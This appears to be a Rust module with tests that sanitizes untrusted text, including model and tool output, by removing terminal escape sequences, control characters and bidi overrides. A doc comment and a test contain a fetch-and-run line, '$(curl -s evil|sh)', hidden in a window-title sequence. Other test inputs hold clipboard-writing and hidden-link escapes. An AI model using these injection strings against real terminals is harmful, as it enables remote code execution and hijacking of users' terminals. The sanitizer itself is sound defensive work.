//! Making untrusted text inert before it reaches a terminal.
//!
//! Every program that shows text it does not control (a model's answer, a
//! tool's output, a transcript read back) on a terminal needs this; the
//! `claudio` program passes all such text through it.
//!
//! ```
//! use claudio::sanitize::Sanitizer;
//!
//! // a whole string: the window title change is gone, the text stays
//! assert_eq!(Sanitizer::clean("\u{1b}]0;pwned\u{7}hello"), "hello");
//!
//! // a stream: a sequence split across two chunks is still caught
//! let mut s = Sanitizer::new();
//! let mut out = String::new();
//! s.push("red: \u{1b}[3", &mut out);
//! s.push("1mstop", &mut out);
//! s.finish(&mut out);
//! assert_eq!(out, "red: stop");
//! ```
//!
//! Model output, tool output and transcripts may carry escape sequences that
//! move the cursor, retitle the window, write the clipboard (OSC 52), hide
//! links (OSC 8), or reorder text (bidi overrides). On a terminal they are
//! removed; newlines and tabs stay. The filter is stateful so a sequence
//! split across two stream deltas is still caught.
//!
//! What never comes out: ESC, the C0 controls but `\n` and `\t`, DEL, the
//! C1 controls, and the bidi overrides and isolates (U+202A–U+202E,
//! U+2066–U+2069).
//!
//! A sequence that ends is dropped whole: a CSI (`ESC [` or U+009B) at its
//! final byte (0x40–0x7E); another escape (`ESC`, intermediates 0x20–0x2F)
//! at its final byte (0x30–0x7E); a string sequence (OSC `ESC ]`, DCS
//! `ESC P`, SOS `ESC X`, PM `ESC ^`, APC `ESC _`, or their C1 forms) at BEL,
//! ST (`ESC \` or U+009C), or any other ESC, which ends the string and
//! starts a new sequence as it does on a terminal.
//!
//! A sequence that is cut off must not swallow the text after it. An earlier
//! version let an unfinished CSI or string sequence hide everything up to
//! the next final byte or BEL, on the grounds that hidden text is no danger
//! to the terminal; but it is data loss (one unterminated `ESC _` in an
//! answer hid the rest of it and the whole next answer), so that is
//! reversed. The characters of a pending sequence are kept (a bounded
//! buffer), and when the sequence is aborted they are written as text,
//! without the controls among them (nor the ESC or C1 that opened it). A
//! sequence is aborted by:
//!
//! - a newline in a string sequence or an escape (the newline is written);
//! - in a CSI or an escape, a character that cannot belong to it (outside
//!   0x20–0x7E), which is then read as text: a newline is written, an ESC
//!   starts a new sequence;
//! - its length: more than [`MAX_STRING`] characters pending in a string
//!   sequence, more than [`MAX_ESCAPE`] in a CSI or an escape;
//! - [`Sanitizer::finish`], which callers call at the end of each block,
//!   message or turn, so no sequence runs past one. [`Sanitizer::clean`]
//!   finishes at the end of its text.
//!
//! [`Sanitizer::keeping_colors`] is the same filter but for one kind of
//! sequence it lets through: a color (SGR: `ESC [`, then only digits, `;`
//! and `:`, then `m`), for text whose colors are wanted (a `statusLine`
//! command's output). Everything else is removed as above.

/// Most characters a string sequence (OSC, DCS, ...) may hold before it is
/// taken for cut off and written as text.
pub const MAX_STRING: usize = 4096;

/// Most characters a CSI or another escape may hold before it is taken for
/// cut off and written as text.
pub const MAX_ESCAPE: usize = 64;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum State {
    #[default]
    Text,
    /// After ESC (and maybe intermediate bytes).
    Escape,
    /// Inside `ESC [` ... final byte.
    Csi,
    /// Inside a string sequence (OSC, DCS, SOS, PM, APC) until BEL or ST.
    Str,
    /// ESC seen inside a string sequence (maybe ST).
    StrEscape,
}

/// A streaming filter for terminal control sequences.
#[derive(Debug, Default, Clone)]
pub struct Sanitizer {
    state: State,
    /// The characters of the sequence in progress, after its opener.
    pending: String,
    /// How many characters `pending` holds.
    pending_chars: usize,
    /// Whether a color sequence (SGR) is written rather than dropped.
    keep_colors: bool,
}

impl Sanitizer {
    /// A filter that removes every sequence (see [`Sanitizer::keeping_colors`]
    /// for one that keeps colors).
    pub fn new() -> Self {
        Self::default()
    }

    /// Filter one chunk; state carries over to the next.
    pub fn push(&mut self, input: &str, out: &mut String) {
        for c in input.chars() {
            self.step(c, out);
        }
    }

    /// The end of a block, message or turn: a sequence still pending was
    /// cut off, and its characters are written as text.
    pub fn finish(&mut self, out: &mut String) {
        self.flush(out);
    }

    /// The same filter, but color sequences (`ESC [ 1;31 m`) are written:
    /// only those, in their `ESC [` form, each whole.
    pub fn keeping_colors() -> Self {
        Self {
            keep_colors: true,
            ..Self::default()
        }
    }

    /// Filter a whole string at once.
    pub fn clean(input: &str) -> String {
        Self::clean_with(Sanitizer::new(), input)
    }

    /// The text with every character the filter would drop shown instead,
    /// as an inert escape (`\e` for ESC, `\a`, `\r`, `\b`, else
    /// `\u{202e}`): for what the person must read whole before saying yes
    /// (a command to run, a rule to keep), where removing a sequence would
    /// hide what it holds (`echo safe; \e]0;$(curl …|sh)\a` runs the
    /// `$(…)`). Newlines and tabs stay.
    ///
    /// ```
    /// # use claudio::sanitize::Sanitizer;
    /// assert_eq!(Sanitizer::visible("a\u{1b}]0;x\u{7}b"), "a\\e]0;x\\ab");
    /// ```
    pub fn visible(input: &str) -> String {
        Self::visible_with(input, false)
    }

    /// [`Sanitizer::visible`] on one line: a line break is shown as `\n`
    /// too. For untrusted text that names something (a path, a label) in
    /// one row or one error message.
    ///
    /// ```
    /// # use claudio::sanitize::Sanitizer;
    /// assert_eq!(Sanitizer::visible_line("a\u{1b}]0;x\u{7}\nb"), "a\\e]0;x\\a\\nb");
    /// ```
    pub fn visible_line(input: &str) -> String {
        Self::visible_with(input, true)
    }

    fn visible_with(input: &str, one_line: bool) -> String {
        let mut out = String::with_capacity(input.len());
        for c in input.chars() {
            match c {
                '\n' if one_line => out.push_str("\\n"),
                '\n' | '\t' => out.push(c),
                '\u{1b}' => out.push_str("\\e"),
                '\u{7}' => out.push_str("\\a"),
                '\r' => out.push_str("\\r"),
                '\u{8}' => out.push_str("\\b"),
                c if is_dropped(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
                c => out.push(c),
            }
        }
        out
    }

    /// Filter a whole string at once, its colors kept (see
    /// [`Sanitizer::keeping_colors`]).
    pub fn clean_keeping_colors(input: &str) -> String {
        Self::clean_with(Sanitizer::keeping_colors(), input)
    }

    fn clean_with(mut s: Sanitizer, input: &str) -> String {
        let mut out = String::with_capacity(input.len());
        s.push(input, &mut out);
        s.finish(&mut out);
        out
    }

    fn step(&mut self, c: char, out: &mut String) {
        match self.state {
            State::Text => match c {
                '\u{1b}' => self.state = State::Escape,
                '\u{9b}' => self.state = State::Csi,
                '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => self.state = State::Str,
                '\n' | '\t' => out.push(c),
                c if is_dropped(c) => {}
                c => out.push(c),
            },
            State::Escape => match c {
                '[' => {
                    self.state = State::Csi;
                    self.keep(c, MAX_ESCAPE, out);
                }
                ']' | 'P' | 'X' | '^' | '_' => {
                    self.state = State::Str;
                    self.keep(c, MAX_STRING, out);
                }
                '\u{20}'..='\u{2f}' => self.keep(c, MAX_ESCAPE, out),
                '\u{30}'..='\u{7e}' => self.drop_sequence(),
                _ => self.abort_at(c, out),
            },
            State::Csi => match c {
                'm' if self.keep_colors && is_sgr(&self.pending) => {
                    out.push('\u{1b}');
                    out.push_str(&self.pending);
                    out.push('m');
                    self.drop_sequence();
                }
                '\u{40}'..='\u{7e}' => self.drop_sequence(),
                '\u{20}'..='\u{3f}' => self.keep(c, MAX_ESCAPE, out),
                _ => self.abort_at(c, out),
            },
            State::Str => match c {
                '\u{7}' | '\u{9c}' => self.drop_sequence(),
                '\u{1b}' => self.state = State::StrEscape,
                '\n' => self.abort_at(c, out),
                _ => self.keep(c, MAX_STRING, out),
            },
            State::StrEscape => {
                // ST ends the string; any other ESC ends it too and starts
                // a new sequence (a newline there aborts that one).
                self.drop_sequence();
                if c != '\\' {
                    self.state = State::Escape;
                    self.step(c, out);
                }
            }
        }
    }

    /// Add `c` to the pending sequence; past `cap` characters it is taken
    /// for cut off.
    fn keep(&mut self, c: char, cap: usize, out: &mut String) {
        self.pending.push(c);
        self.pending_chars += 1;
        if self.pending_chars > cap {
            self.flush(out);
        }
    }

    /// The sequence ended: none of it is written.
    fn drop_sequence(&mut self) {
        self.pending.clear();
        self.pending_chars = 0;
        self.state = State::Text;
    }

    /// The sequence was cut off: its characters are written as text.
    fn flush(&mut self, out: &mut String) {
        out.extend(self.pending.chars().filter(|&c| !is_dropped(c)));
        self.drop_sequence();
    }

    /// `c` cannot belong to the sequence: write the sequence as text, and
    /// read `c` as text.
    fn abort_at(&mut self, c: char, out: &mut String) {
        self.flush(out);
        self.step(c, out);
    }
}

/// Whether a pending CSI (`[` and its parameters, from `ESC [`) is a color
/// once `m` ends it: digits, `;` and `:` only.
fn is_sgr(pending: &str) -> bool {
    pending.strip_prefix('[').is_some_and(|p| {
        p.bytes()
            .all(|b| b.is_ascii_digit() || b == b';' || b == b':')
    })
}

/// Characters that never reach the terminal: C0 controls (but `\n`, `\t`),
/// DEL, C1 controls, and bidi overrides/isolates.
pub fn is_dropped(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn plain_text_passes() {
        let s = "héllo\n\twörld — ✓ 日本";
        assert_eq!(Sanitizer::clean(s), s);
    }

    #[test]
    fn escape_sequences_are_removed() {
        let cases = [
            ("a\u{1b}[31mred\u{1b}[0m b", "ared b"),
            ("x\u{1b}[2J\u{1b}[Hy", "xy"),
            ("\u{1b}]0;evil title\u{7}ok", "ok"),
            ("\u{1b}]52;c;SGVsbG8=\u{1b}\\clip", "clip"),
            (
                "\u{1b}]8;;http://evil\u{1b}\\link\u{1b}]8;;\u{1b}\\",
                "link",
            ),
            ("\u{1b}Pq#0;2;0;0;0\u{1b}\\dcs", "dcs"),
            ("\u{9b}31mc1csi", "c1csi"),
            ("\u{9d}0;t\u{9c}c1osc", "c1osc"),
            ("bell\u{7} back\u{8}\u{8}space\r\n", "bell backspace\n"),
            ("\u{202e}evil\u{202c} \u{2066}iso\u{2069}", "evil iso"),
            ("\u{1b}(Bcharset", "charset"),
            ("del\u{7f}", "del"),
        ];
        for (input, want) in cases {
            assert_eq!(Sanitizer::clean(input), want, "{input:?}");
        }
    }

    #[test]
    fn sequences_split_across_chunks() {
        let mut s = Sanitizer::new();
        let mut out = String::new();
        for chunk in [
            "ok \u{1b}",
            "]52;c;",
            "AAAA",
            "\u{1b}",
            "\\ done \u{1b}[",
            "1;3",
            "1m!",
        ] {
            s.push(chunk, &mut out);
        }
        assert_eq!(out, "ok  done !");
    }

    #[test]
    fn cut_off_sequences_leave_the_text_after() {
        let cases = [
            // an APC with no end: the rest of the answer stays
            ("a\u{1b}_the rest", "a_the rest"),
            // a newline aborts a string sequence or an escape
            ("\u{1b}]0;title\nnext line", "]0;title\nnext line"),
            ("\u{1b} \nx", " \nx"),
            // a character that cannot be in a CSI aborts it
            ("\u{1b}[12\nx", "[12\nx"),
            ("\u{1b}[1;é!", "[1;é!"),
            ("\u{1b}[31\u{1b}[0mok", "[31ok"),
            ("\u{9b}4\u{7}x", "4x"),
            // another ESC ends a string, and starts a sequence of its own
            ("\u{1b}]0;t\u{1b}[31mred", "red"),
            ("\u{1b}]0;t\u{1b}\u{1b}\\x", "x"),
            // the controls inside are still removed
            ("\u{1b}Pa\u{8}\u{202e}b\u{1b}", "Pab"),
            ("\u{1b}", ""),
        ];
        for (input, want) in cases {
            assert_eq!(Sanitizer::clean(input), want, "{input:?}");
        }
    }

    #[test]
    fn finish_ends_what_is_pending() {
        let mut s = Sanitizer::new();
        let mut out = String::new();
        s.push("one \u{1b}_two", &mut out);
        assert_eq!(out, "one ", "pending until the block ends");
        s.finish(&mut out);
        s.push("three\u{7}four", &mut out);
        s.finish(&mut out);
        assert_eq!(out, "one _twothreefour");
        // a split sequence is still caught when no finish comes between
        let mut out = String::new();
        s.push("a\u{1b}]0;", &mut out);
        s.push("x\u{7}b", &mut out);
        s.finish(&mut out);
        assert_eq!(out, "ab");
    }

    #[test]
    fn long_sequences_are_taken_for_cut_off() {
        let mut s = Sanitizer::new();
        let mut out = String::new();
        let input = format!("\u{1b}]{}", "x".repeat(MAX_STRING + 10));
        s.push(&input, &mut out);
        assert_eq!(out, input[1..], "written without waiting for the end");
        let mut out = String::new();
        let digits = "1;".repeat(MAX_ESCAPE);
        s.push(&format!("\u{1b}[{digits}visible"), &mut out);
        assert_eq!(out, format!("[{digits}visible"));
        let mut out = String::new();
        s.push(
            &format!("\u{1b}{}visible", " ".repeat(MAX_ESCAPE + 1)),
            &mut out,
        );
        assert!(out.ends_with("visible"), "{out:?}");
    }

    /// What must never reach the terminal (the fuzz target's list).
    fn forbidden(c: char) -> bool {
        matches!(c,
            '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
            | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    }

    /// Text made mostly of the characters that steer the state machine.
    fn text() -> impl Strategy<Value = String> {
        const ALPHABET: &[char] = &[
            'a', 'Z', ' ', '\n', '\t', '\r', '\u{1b}', '\u{1b}', '[', ']', 'P', 'X', '^', '_',
            '\\', '(', '0', '1', ';', 'm', '\u{7}', '\u{8}', '\u{7f}', '\u{90}', '\u{9b}',
            '\u{9c}', '\u{9d}', 'é', '日', '\u{202e}', '\u{2066}',
        ];
        proptest::collection::vec(proptest::sample::select(ALPHABET), 0..120)
            .prop_map(|cs| cs.into_iter().collect())
    }

    proptest! {
        #![proptest_config(ProptestConfig {
            cases: 1000,
            failure_persistence: None,
            ..ProptestConfig::default()
        })]

        /// The fuzz target's properties, for inputs made here.
        #[test]
        fn properties_hold_for_generated_text(
            text in text(),
            cuts in proptest::collection::vec(1usize..7, 1..40),
        ) {
            let once = Sanitizer::clean(&text);
            prop_assert!(!once.chars().any(forbidden), "{:?} → {:?}", text, once);
            let mut input = text.chars();
            prop_assert!(
                once.chars().all(|c| input.any(|d| d == c)),
                "not a subsequence: {:?} → {:?}", text, once
            );
            if !text.chars().any(forbidden) {
                prop_assert_eq!(&once, &text);
            }
            prop_assert_eq!(Sanitizer::clean(&once), once.clone());
            // chunked at the given points, finished at the end
            let mut s = Sanitizer::new();
            let mut out = String::new();
            let mut rest = text.as_str();
            let mut i = 0;
            while !rest.is_empty() {
                let n = cuts[i % cuts.len()];
                i += 1;
                let at = rest.char_indices().nth(n).map_or(rest.len(), |(i, _)| i);
                s.push(&rest[..at], &mut out);
                rest = &rest[at..];
            }
            s.finish(&mut out);
            prop_assert_eq!(&out, &once, "chunking changed {:?}", text);
            // text after a sequence cut off survives its block's end, and
            // the cap without an end
            for opener in [
                "\u{1b}]",
                "\u{1b}P",
                "\u{1b}_",
                "\u{1b}[",
                "\u{1b}[1;",
                "\u{1b} ",
            ] {
                let marker = "§MARK§";
                let cut = format!("{text}{opener}{marker}");
                prop_assert!(Sanitizer::clean(&cut).contains(marker), "{:?}", cut);
                let mut s = Sanitizer::new();
                let mut out = String::new();
                s.push(&format!("{cut}{}", "x".repeat(MAX_STRING + 1)), &mut out);
                prop_assert!(out.contains(marker), "{:?} + filler", cut);
            }
        }
    }

    #[test]
    fn colors_are_kept_throughout_when_asked_and_nothing_else() {
        let cases = [
            // a color after a removed sequence is kept: the whole line
            (
                "\u{1b}[31mred\u{1b}[2J \u{1b}]0;t\u{7}\u{1b}[1;32mgreen\u{1b}[0m",
                "\u{1b}[31mred \u{1b}[1;32mgreen\u{1b}[0m",
            ),
            ("\u{1b}[38:5:208mo\u{1b}[m", "\u{1b}[38:5:208mo\u{1b}[m"),
            // not colors: private, intermediate, C1 form, other finals
            ("\u{1b}[?25ma\u{1b}[1 mb\u{9b}31mc\u{1b}[31Hd", "abcd"),
            // an ESC ends an OSC, as on a terminal; a cut-off color is text
            ("\u{1b}]8;;\u{1b}[31m\u{7}x", "\u{1b}[31mx"),
            ("\u{1b}[31", "[31"),
        ];
        for (input, want) in cases {
            assert_eq!(Sanitizer::clean_keeping_colors(input), want, "{input:?}");
        }
        // the default filter still removes colors
        assert_eq!(Sanitizer::clean("\u{1b}[31mred\u{1b}[0m"), "red");
    }

    /// `text` with every color sequence (`ESC [ digits ; : m`) taken out,
    /// and whether each ESC in it began one.
    fn without_colors(text: &str) -> (String, bool) {
        let mut out = String::new();
        let mut all_colors = true;
        let mut rest = text;
        while let Some(i) = rest.find('\u{1b}') {
            out.push_str(&rest[..i]);
            let after = &rest[i + 1..];
            let end = after
                .strip_prefix('[')
                .and_then(|p| p.find(|c: char| !(c.is_ascii_digit() || c == ';' || c == ':')))
                .filter(|&e| after.as_bytes().get(e + 1) == Some(&b'm'));
            match end {
                Some(e) => rest = &after[e + 2..],
                None => {
                    all_colors = false;
                    rest = after;
                }
            }
        }
        out.push_str(rest);
        (out, all_colors)
    }

    proptest! {
        #![proptest_config(ProptestConfig {
            cases: 1000,
            failure_persistence: None,
            ..ProptestConfig::default()
        })]

        /// Keeping colors adds colors and nothing else to what `clean` gives.
        #[test]
        fn keeping_colors_adds_only_colors(text in text()) {
            let kept = Sanitizer::clean_keeping_colors(&text);
            let (plain, all_colors) = without_colors(&kept);
            prop_assert!(all_colors, "{:?} → {:?}", text, kept);
            prop_assert_eq!(plain, Sanitizer::clean(&text), "{:?} → {:?}", text, kept);
        }
    }

    #[test]
    fn visible_shows_what_clean_would_drop_and_nothing_stays_live() {
        let text = "echo safe; \u{1b}]0;$(curl -s evil|sh)\u{7}\r\u{8}\u{9b}2J\u{202e}x\n\tok";
        let v = Sanitizer::visible(text);
        assert_eq!(
            v,
            "echo safe; \\e]0;$(curl -s evil|sh)\\a\\r\\b\\u{9b}2J\\u{202e}x\n\tok"
        );
        assert!(v.chars().all(|c| c == '\n' || c == '\t' || !is_dropped(c)));
        assert_eq!(Sanitizer::clean(&v), v, "already inert");
    }
}
